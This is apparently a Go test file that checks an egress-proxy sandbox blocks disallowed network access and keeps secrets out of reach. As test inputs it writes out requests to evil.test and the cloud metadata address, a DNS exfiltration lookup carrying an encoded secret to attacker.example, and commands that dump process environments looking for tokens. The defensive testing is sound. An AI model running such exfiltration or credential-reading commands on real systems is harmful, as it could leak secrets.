package egress_test

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/trueforge/terraform-provider-trueforge/internal/egress"
	"github.com/trueforge/terraform-provider-trueforge/internal/egress/wire"
)

// sandboxScript lays out /run/trueforge as the runtime does (the socket's directory,
// read-only, and netd bound in, the Files written, resolv.conf bound over /etc/resolv.conf), starts netd and runs
// the command. It runs in new network, mount and PID namespaces: only lo, and when the
// command (PID 1) ends, netd goes with it.
const sandboxScript = `set -e
mount -t tmpfs tmpfs /run
mkdir -p /run/trueforge
cp "$EGRESS_FILES"/* /run/trueforge/
mkdir /run/trueforge/egress; touch /run/trueforge/netd
mount --bind "$(dirname "$EGRESS_SOCKET")" /run/trueforge/egress
mount -o remount,bind,ro /run/trueforge/egress
mount --bind "$EGRESS_NETD" /run/trueforge/netd
mount --bind /run/trueforge/resolv.conf /etc/resolv.conf
/run/trueforge/netd -ready /run/trueforge/ready 2>/run/trueforge/netd.log &
i=0; while [ ! -e /run/trueforge/ready ]; do i=$((i+1)); [ $i -lt 500 ] || { cat /run/trueforge/netd.log >&2; exit 99; }; sleep 0.01; done
exec "$@"
`

type runResult struct {
	stdout, stderr string
	code           int
}

// runInSandbox runs argv in a fresh network namespace whose only way out is f's proxy,
// with the proxy's Env (and extra) set.
func (f *fixture) runInSandbox(t *testing.T, extra map[string]string, argv ...string) runResult {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatal("the namespace tests need root (unshare -n, mounts); run them as root")
	}
	env := []string{}
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		if strings.HasSuffix(strings.ToLower(k), "_proxy") {
			continue
		}
		env = append(env, kv)
	}
	env = append(env, f.proxyEnv()...)
	for k, v := range extra {
		env = append(env, k+"="+v)
	}
	return f.unshare(t, []string{"--net", "--mount", "--pid", "--fork", "--kill-child", "--", "sh", "-c", sandboxScript, "sh"}, env, argv...)
}

// proxyEnv is the proxy's Env as environment entries.
func (f *fixture) proxyEnv() []string {
	var env []string
	for k, v := range f.proxy.Env() {
		env = append(env, k+"="+v)
	}
	return env
}

// unshare runs "unshare args... argv..." (args end with the script that lays out the
// sandbox) with env and the variables the scripts read: EGRESS_FILES (the proxy's
// Files, written to a directory), EGRESS_SOCKET and EGRESS_NETD. A script exits 99 when
// netd did not start, which fails the test.
func (f *fixture) unshare(t *testing.T, args, env []string, argv ...string) runResult {
	t.Helper()
	files := filepath.Join(f.dir, "files")
	if err := os.MkdirAll(files, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, b := range f.proxy.Files() {
		if err := os.WriteFile(filepath.Join(files, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "unshare", append(args, argv...)...)
	cmd.Env = append(env, "EGRESS_FILES="+files, "EGRESS_SOCKET="+f.socket, "EGRESS_NETD="+netdBinary)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code := 0
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatalf("unshare: %v", err)
		}
		code = ee.ExitCode()
	}
	if code == 99 {
		t.Fatalf("netd did not start: %s", errb.String())
	}
	return runResult{out.String(), errb.String(), code}
}

const pyGet = `import sys, urllib.request
req = urllib.request.Request(sys.argv[1], headers=dict(h.split(": ", 1) for h in sys.argv[2:]))
try:
    print(urllib.request.urlopen(req, timeout=20).read().decode(), end="")
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode(), end=""); sys.exit(1)
`

func TestSandboxClientsThroughNetd(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test"}}, nil)
	u := f.url("api.allowed.test", "/whoami")
	plain := "http://api.allowed.test:" + f.plainUp.port + "/whoami"
	for name, argv := range map[string][]string{
		"curl https":   {"curl", "-sS", "--fail", u},
		"curl http":    {"curl", "-sS", "--fail", plain},
		"curl socks5h": {"curl", "-sS", "--fail", "--proxy", "socks5h://127.0.0.1:1080", u},
		"curl socks5 (resolves through netd DNS)": {"curl", "-sS", "--fail", "--proxy", "socks5://127.0.0.1:1080", u},
		"python urllib": {"python3", "-c", pyGet, u},
		"go net/http":   {os.Args[0]},
	} {
		t.Run(name, func(t *testing.T) {
			r := f.runInSandbox(t, map[string]string{"EGRESS_TEST_GOCLIENT_URL": u}, argv...)
			if r.code != 0 || !strings.Contains(r.stdout, "hello from upstream") {
				t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
			}
		})
	}
	// Without the proxy there is no way out: the name resolves to a synthetic address
	// that nothing routes.
	r := f.runInSandbox(t, nil, "curl", "-sS", "--noproxy", "*", "--max-time", "5", u)
	if r.code == 0 {
		t.Fatalf("a direct connection left the sandbox: %s", r.stdout)
	}
}

func TestSandboxRefusalsThroughNetd(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test"}}, nil)
	cases := map[string]struct {
		argv   []string
		reason string
	}{
		"denied host":        {[]string{"curl", "-sSv", "https://evil.test:" + f.up.port + "/"}, egress.ReasonNotAllowed},
		"raw IP":             {[]string{"curl", "-sSv", "https://93.184.216.34/"}, egress.ReasonIPLiteral},
		"IPv6 literal":       {[]string{"curl", "-sSv", "https://[2606:4700::1111]/"}, egress.ReasonIPLiteral},
		"metadata over http": {[]string{"curl", "-sSv", "http://169.254.169.254/latest/meta-data/"}, egress.ReasonIPLiteral},
		"python denied host": {[]string{"python3", "-c", pyGet, "http://evil.test:" + f.plainUp.port + "/"}, egress.ReasonNotAllowed},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			r := f.runInSandbox(t, nil, tc.argv...)
			all := r.stdout + r.stderr
			if !strings.Contains(all, "403") || !strings.Contains(all, tc.reason) {
				t.Fatalf("exit %d, want a 403 naming %s\nstdout: %s\nstderr: %s", r.code, tc.reason, r.stdout, r.stderr)
			}
		})
	}
	if n := len(f.up.requests()) + len(f.plainUp.requests()); n != 0 {
		t.Fatalf("upstreams got %d requests", n)
	}
}

// A lookup of <data>.attacker.example inside the sandbox is answered by netd with a
// synthetic address and never reaches a real resolver; connecting to it is refused by
// the policy before the proxy resolves anything.
func TestSandboxDNSExfiltrationGoesNowhere(t *testing.T) {
	f := newFixture(t, egress.Policy{AllowDomains: []string{"api.allowed.test"}}, nil)
	name := "c2VjcmV0LXZhbHVl.attacker.example"
	script := `import socket, subprocess, sys
a = socket.gethostbyname(sys.argv[1])
t = socket.getaddrinfo(sys.argv[1], 443, type=socket.SOCK_STREAM)
print(a, t[0][4][0])
r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_connect}", "https://" + a + "/"], capture_output=True, text=True)
r2 = subprocess.run(["curl", "-sS", "-o", "/dev/null", "--proxy", "socks5://127.0.0.1:1080", "https://" + sys.argv[1] + "/"], capture_output=True, text=True)
print(r.stdout, r2.returncode)
`
	r := f.runInSandbox(t, nil, "python3", "-c", script, name)
	if r.code != 0 || !strings.HasPrefix(r.stdout, "198.18.") {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "403 97") { // CONNECT refused; SOCKS "not allowed by ruleset" (curl exit 97)
		t.Fatalf("connecting to the synthetic address was not refused: %s", r.stdout)
	}
	if n := f.resolver.total(); n != 0 {
		t.Fatalf("the proxy's resolver was asked %d times (%v); nothing should have been resolved", n, f.resolver.asked)
	}
	if !f.log.has(strings.ToLower(name), egress.ReasonNotAllowed) {
		t.Fatalf("the SOCKS connection to the synthetic address was not mapped back to %s: %+v", name, f.log.all())
	}
}

func TestSandboxSecretsThroughNetd(t *testing.T) {
	f := secretFixture(t)
	u := f.url("secret.allowed.test", "/auth")
	r := f.runInSandbox(t, nil, "sh", "-c", `curl -sS --fail -H "Authorization: Bearer $GITHUB_TOKEN" "$1" && python3 -c "$2" "$1" "Authorization: Bearer $GITHUB_TOKEN"`, "sh", u, pyGet)
	if r.code != 0 || r.stdout != "authorized\nauthorized\n" {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	r = f.runInSandbox(t, map[string]string{"EGRESS_TEST_GOCLIENT_URL": u, "EGRESS_TEST_AUTH": "Bearer " + f.proxy.Env()["GITHUB_TOKEN"]}, os.Args[0])
	if r.code != 0 || !strings.Contains(r.stdout, "authorized") {
		t.Fatalf("go client: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	// The placeholder sent elsewhere is refused.
	r = f.runInSandbox(t, nil, "sh", "-c", `curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "$1"`, "sh", f.url("other.allowed.test", "/auth"))
	if !strings.Contains(r.stdout, egress.ReasonPlaceholderHost) {
		t.Fatalf("placeholder to another host: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	// Nothing inside the sandbox holds the value: environment, /proc of every process
	// (netd included), the files under /run/trueforge.
	r = f.runInSandbox(t, nil, "sh", "-c", `env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; cat /run/trueforge/*.pem /run/trueforge/resolv.conf /etc/resolv.conf; ls /proc`)
	if r.code != 0 || !strings.Contains(r.stdout, "GITHUB_TOKEN="+egress.PlaceholderPrefix) {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	if strings.Contains(r.stdout+r.stderr, realToken) {
		t.Fatal("the secret's value is visible inside the sandbox")
	}
}

var _ = wire.SocketPath
